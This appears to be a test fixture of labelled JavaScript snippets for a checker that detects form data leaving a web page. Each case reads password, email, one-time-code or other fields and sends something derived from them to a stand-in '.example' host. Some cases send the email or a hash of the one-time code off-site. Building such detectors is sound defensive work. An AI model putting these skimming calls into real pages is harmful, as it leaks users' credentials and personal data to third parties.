//# password-strength-score
// no flow
// why: a score made of tests
function score1(p) {
  let s = 0;
  if (p.length > 8) s++;
  if (/[A-Z]/.test(p)) s++;
  if (/\d/.test(p)) s += 1;
  return s;
}
fetch('https://sco.de9.example/?s=' + score1(document.querySelector('input[type=password]').value));

//# filled-flags-of-form
// no flow
const filled2 = {};
for (const el of document.querySelector('form').elements) filled2[el.name] = el.value !== '';
fetch('https://ffl.de9.example/', { method: 'POST', body: JSON.stringify(filled2) });

//# count-of-words
// no flow
const words3 = document.querySelector('textarea[name=message]').value.split(/\s+/).filter(Boolean).length;
navigator.sendBeacon('https://cow.de9.example/', JSON.stringify({ words: words3 }));

//# mobile-or-not
// no flow
// why: one bit
const kind4 = /Mobi/.test(navigator.userAgent) ? 'mobile' : 'desktop';
fetch('https://mob.de9.example/app.' + kind4 + '.json');

//# element-id-not-value
// no flow
document.querySelector('input[type=email]').addEventListener('focus', (e) => {
  navigator.sendBeacon('https://eid.de9.example/', JSON.stringify({ field: e.target.id, form: e.target.form.id }));
});

//# error-code-of-validation
// no flow
function validate6(v) {
  if (!v) return 'empty';
  if (!v.includes('@')) return 'no-at';
  return null;
}
const code6 = validate6(document.querySelector('input[type=email]').value);
if (code6) fetch('https://ecv.de9.example/?c=' + code6);

//# lookup-by-value
// no flow
// why: the table holds constants; which one is taken is all that is told
const PLANS7 = { a: 'basic', b: 'pro' };
const plan7 = PLANS7[document.querySelector('input[name=username]').value] || 'none';
fetch('https://lbv.de9.example/?p=' + plan7);

//# time-spent-typing
// no flow
let t8 = 0;
const f8 = document.querySelector('textarea[name=message]');
f8.addEventListener('focus', () => { t8 = Date.now(); });
f8.addEventListener('blur', () => navigator.sendBeacon('https://tst.de9.example/', String(Date.now() - t8)));

//# masked-to-stars
// no flow
// why: each sign becomes a star: the length only
const masked9 = document.querySelector('input[type=password]').value.replace(/./g, '*');
fetch('https://mst.de9.example/', { method: 'POST', body: masked9 });

//# masked-but-ends
// flow: email > mbe.de9.example via fetch
// why: the first letter and the domain stay
const mail10 = document.querySelector('input[type=email]').value;
fetch('https://mbe.de9.example/', { method: 'POST', body: mail10[0] + '***@' + mail10.split('@').pop() });

//# keys-of-object
// no flow
const data11 = { email: document.querySelector('input[type=email]').value, pass: document.querySelector('input[type=password]').value };
fetch('https://kob.de9.example/', { method: 'POST', body: Object.keys(data11).join() });

//# entries-of-object
// flow: email > eob.de9.example via fetch
const data12 = { email: document.querySelector('input[type=email]').value, n: 1 };
fetch('https://eob.de9.example/?' + Object.entries(data12).map(([k, v]) => k + '=' + v).join('&'));

//# status-of-answer
// no flow
// why: the password goes to the page's own server, only the status elsewhere
const p13 = document.querySelector('input[type=password]').value.length;
fetch('/strength?n=' + p13).then((r) => navigator.sendBeacon('https://soa.de9.example/', String(r.status)));

//# index-in-list
// no flow
const LANGS14 = ['en', 'de', 'fr'];
const i14 = LANGS14.indexOf(document.querySelector('input[name=username]').value);
fetch('https://iil.de9.example/?i=' + i14);

//# char-codes-sum
// flow: otp > ccs.de9.example via fetch
// why: a checksum of six digits tells much of them
const otp15 = document.querySelector('input[autocomplete=one-time-code]').value;
let sum15 = 0;
for (let i = 0; i < otp15.length; i++) sum15 = sum15 * 31 + otp15.charCodeAt(i);
fetch('https://ccs.de9.example/?c=' + sum15);

//# every-some
// no flow
const all16 = [...document.querySelectorAll('input')].every((i) => i.value.length > 0);
const any16 = [...document.querySelectorAll('input')].some((i) => i.value === 'x');
fetch('https://evs.de9.example/?a=' + all16 + '&s=' + any16);
